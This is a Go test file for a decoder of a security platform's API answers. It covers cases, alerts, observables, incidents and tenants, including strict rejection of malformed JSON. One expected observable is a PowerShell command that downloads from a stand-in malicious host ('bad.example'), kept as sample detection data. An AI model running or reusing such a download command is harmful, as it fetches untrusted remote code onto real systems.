package stellarcyber

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sightline-sec/sightline/core/api"
)

// The sample of the vendor's page, all of its 21 fields.
func TestDecodeSample(t *testing.T) {
	t.Parallel()
	var answer casesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "cases.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, 139380, *answer.Data.Total)
	assert.Equal(t, []Case{{
		ID:             "655459dba3149258cd73014b",
		Acknowledged:   1700102364585,
		Assignee:       "e7fd8d407209477091862d3052bdcef8",
		Closed:         0,
		CreatedAt:      1700026843539,
		CreatedBy:      "System",
		TenantID:       "c7cc6762d8dd4dafa7384f4e0240fc8d",
		ModifiedAt:     1700102370220,
		ModifiedBy:     "418634d650954a5f87cb70ca44f34ced",
		Name:           "Cynet: Data Encrypted for Impact and 133 others",
		Score:          100,
		Size:           134,
		Status:         StatusInProgress,
		Severity:       SeverityCritical,
		Tags:           []string{},
		TicketID:       1667,
		Version:        138,
		CreatedByName:  "System",
		ModifiedByName: "adeng@sigma-rt.com",
		AssigneeName:   "0-root_user@123.com",
		TenantName:     "Rui",
	}}, answer.Data.Cases)
	assert.Equal(t, time.Date(2023, 11, 15, 5, 40, 43, 539e6, time.UTC), answer.Data.Cases[0].CreatedAt.Time())
	assert.True(t, Timestamp(0).Time().IsZero())
}

func TestDecodeKeepsUnknownFields(t *testing.T) {
	t.Parallel()
	var answer casesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "cases-extra.json")), answer.UnmarshalEasyJSON, answer.check))
	got := answer.Data.Cases[0]
	assert.InDelta(t, 74.99999, got.Score, 1e-9)
	assert.Equal(t, []string{"vip", "lab"}, got.Tags)
	assert.Equal(t, []api.Extra{
		{Name: "start_timestamp", JSON: "1704099990000"},
		{Name: "resolution", JSON: `"Benign"`},
		{Name: "metadata", JSON: `{"a":[1,{"b":null}]}`},
	}, got.Extra)
}

func TestDecodeObservables(t *testing.T) {
	t.Parallel()
	var answer observablesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "observables.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, []Observable{
		{"hosts", "ip", "10.0.0.5"},
		{"hosts", "hostname", "fin-07"},
		{"users", "name", "jdoe"},
		{"processes", "name", "powershell.exe"},
		{"processes", "command_line", "powershell -c iwr http://bad.example/a"},
		{"files", "name", "a.exe"},
		{"files", "sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		{"external_hosts", "ip", "198.51.100.7"},
		{"external_hosts", "", "203.0.113.9"},
		{"urls", "", "http://bad.example/"},
	}, answer.Observables.values)
}

func TestDecodeObservablesOfAnyShape(t *testing.T) {
	t.Parallel()
	for body, want := range map[string][]Observable{
		`{"observables":{}}`: nil,
		`{"observables":[]}`: nil,
		`{"observables":{"urls":null,"n":[1,true,null,""]}}`:  nil,
		`{"observables":["192.0.2.7"]}`:                       {{"", "", "192.0.2.7"}},
		`{"observables":[{"type":"ip","value":"192.0.2.7"}]}`: {{"", "type", "ip"}, {"", "value", "192.0.2.7"}},
		`{"observables":{"urls":"http://a/"}}`:                {{"urls", "", "http://a/"}},
		`{"observables":{"h":{"x":[["a"],{"y":"b"}]}}}`:       {{"h", "x", "a"}, {"h", "y", "b"}},
	} {
		var answer observablesAnswer
		require.NoError(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
		assert.Equal(t, want, answer.Observables.values, body)
	}
	for _, body := range []string{
		``, `null`, `{}`, `[]`, `{"observables":null}`, `{"observables":"none"}`, `{"observables":7}`, `{"observables":false}`,
		`{"data":{"observables":{}}}`, `{"observables":{"urls":["http://a/"`, `{"observables":{"urls":["http://a/"]}} x`,
		`{"observables":{"urls":["a"}}}`, `{"observables":{"urls" ["a"]}}`, `{"observables":{1:["a"]}}`, "{\"observables\":[\"\xff\"]}",
		`{"observables":{"a":` + strings.Repeat("[", 20) + strings.Repeat("]", 20) + `}}`,
		`{"observables":` + strings.Repeat(`{"a":`, 100_000),
	} {
		var answer observablesAnswer
		require.Error(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body[:min(len(body), 80)])
	}
}

func TestDecodeObservablesBounds(t *testing.T) {
	t.Parallel()
	list := func(n int) []byte {
		body := []byte(`{"observables":{"urls":[`)
		for i := range n {
			body = append(strconv.AppendInt(append(body, '"'), int64(i), 10), '"', ',')
		}
		body[len(body)-1] = ']'
		return append(body, '}', '}')
	}
	var answer observablesAnswer
	require.NoError(t, api.Decode(list(maxObservables), answer.UnmarshalEasyJSON, answer.check))
	assert.Len(t, answer.Observables.values, maxObservables)
	require.ErrorIs(t, api.Decode(list(maxObservables+1), answer.UnmarshalEasyJSON, answer.check), errTooMany)
}

func TestDecodeCasesIsStrict(t *testing.T) {
	t.Parallel()
	for _, body := range []string{
		``, `null`, `[]`, `{}`, `{"data":null}`, `{"data":[]}`, `{"data":{}}`, `{"data":{"total":0}}`, `{"data":{"cases":[]}}`,
		`{"data":{"total":0,"cases":null}}`, `{"data":{"total":null,"cases":[]}}`, `{"data":{"total":"1","cases":[]}}`,
		`{"data":{"total":0,"cases":[{"_id":"a"}]}}`, `{"data":{"total":1,"cases":[{}]}}`, `{"data":{"total":1,"cases":[null]}}`,
		`{"data":{"total":1,"cases":[{"_id":7}]}}`, `{"data":{"total":1,"cases":[{"_id":"a","score":"high"}]}}`,
		`{"data":{"total":1,"cases":[{"_id":"a","tags":"vip"}]}}`, `{"data":{"total":1,"cases":[{"_id":"a","x":[1,}]}]}}`,
		`{"data":{"total":1,"cases":[{"_id":"a"`, `{"data":{"total":0,"cases":[]}}{}`, `<html>`, `{"error":"no"}`,
	} {
		var answer casesAnswer
		require.Error(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
	}
}

// What a type does not name is kept, to the byte, and written again.
func TestUnknownFieldsAreKept(t *testing.T) {
	t.Parallel()
	extra := `"x":{"a":[1,{"b":null}]},"big":12345678901234567890.123,"\u00fc":"\ud83d\ude00"`
	for body, answer := range map[string]model{
		`{"data":{"total":1,"docs":[{"_id":"a","_index":"b","_source":{"deep":{"er":[1e400]}},` + extra + `}]}}`: new(alertsAnswer),
		`{"data":[{"_id":"a","comment":"c",` + extra + `}]}`:                                                     new(commentsAnswer),
		`{"data":[{"field":"tags","from":{"any":1},"to":[2],` + extra + `}]}`:                                    new(activitiesAnswer),
		`{"data":[{"score":1,"reasons":[{"reason":"r",` + extra + `}]}]}`:                                        new(scoresAnswer),
		`{"data":[{"cust_id":"a",` + extra + `}]}`:                                                               new(tenantsAnswer),
		`{"data":[{"user_id":"a",` + extra + `}]}`:                                                               new(usersAnswer),
		`{"data":[{` + extra + `}]}`:                                                                             new(rowsAnswer),
		`{"data":{"_id":"a",` + extra + `}}`:                                                                     new(caseAnswer),
		`{"hits":{"total":1,"hits":[{"_id":"a",` + extra + `}]}}`:                                                new(hitsAnswer),
	} {
		require.NoError(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
		written := encode(t, answer)
		for _, kept := range []string{`{"a":[1,{"b":null}]}`, `12345678901234567890.123`, `"\ud83d\ude00"`, `"ü":`} {
			assert.Contains(t, written, kept, body)
		}
	}
}

func TestEvent(t *testing.T) {
	t.Parallel()
	var answer alertsAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "alerts.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, Event{
		Name: "impossible_travel", DisplayName: "Impossible Travel", Description: "A user was in two places.",
		TacticID: "TA0001", Tactic: "Initial Access", TechniqueID: "T1078", Technique: "Valid Accounts", Stage: "Initial Attempts",
		Score: 64, Status: AlertNew, SourceIP: "192.0.2.10", DestinationIP: "198.51.100.7",
		TenantID: "11112222333344445555666677778888", Tenant: "Example North", Time: 1704099990000,
	}, answer.Data.Docs[0].Event())
	assert.Equal(t, Event{Time: 1704099000000}, answer.Data.Docs[1].Event(), "fields of other types are left out")
	for _, source := range []string{"", "null", "7", `"a"`, "[]", `{"xdr_event":[]}`, `{"xdr_event":{"tactic":{"id":{}}}}`, `{"a`, `{"xdr_event":{"tactic":`} {
		assert.Zero(t, Alert{Source: api.Raw(source)}.Event(), source)
	}
}

func TestDecodeHits(t *testing.T) {
	t.Parallel()
	for body, want := range map[string]int{
		fixture(t, "search.json"):                               12,
		fixture(t, "search-6.json"):                             12,
		`{"hits":{"hits":[]}}`:                                  -1,
		`{"hits":{"total":null,"hits":[]}}`:                     -1,
		`{"hits":{"total":"many","hits":[]}}`:                   -1,
		`{"hits":{"total":{"value":"many"},"hits":[]}}`:         -1,
		`{"hits":{"total":1.5,"hits":[]}}`:                      -1,
		`{"hits":{"total":{"relation":"eq"},"hits":[]}}`:        -1,
		`{"hits":{"total":{"a":{},"value":3},"hits":[]},"x":1}`: 3,
	} {
		var answer hitsAnswer
		require.NoError(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
		assert.Equal(t, want, answer.Hits.Total.count(), body)
	}
	var answer hitsAnswer
	require.ErrorContains(t, api.Decode([]byte(`{"timed_out":true,"hits":{"hits":[]}}`), answer.UnmarshalEasyJSON, answer.check), "ran out of time")
}

func TestIncidentAlerts(t *testing.T) {
	t.Parallel()
	var answer incidentsAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "incidents.json")), answer.UnmarshalEasyJSON, answer.check))
	incident := answer.Data.Incidents[0]
	assert.Equal(t, []AlertRef{{"1704100000_a1b2", "aella-ser-1704067200000-"}}, IncidentAlerts(incident))
	assert.Equal(t, "91.5", incident.Get("incident_score").String())
	for _, ids := range []string{"null", "7", `["a"]`, `[{"_id":7}]`, `[`} {
		assert.Empty(t, IncidentAlerts(Case{Extras: api.Extras{Extra: []api.Extra{{Name: "event_ids", JSON: ids}}}}), ids)
	}
}

func TestTenantsTimeIsInSeconds(t *testing.T) {
	t.Parallel()
	var answer tenantsAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "tenants.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC), answer.Data[0].Created())
	assert.True(t, Tenant{}.Created().IsZero())
}
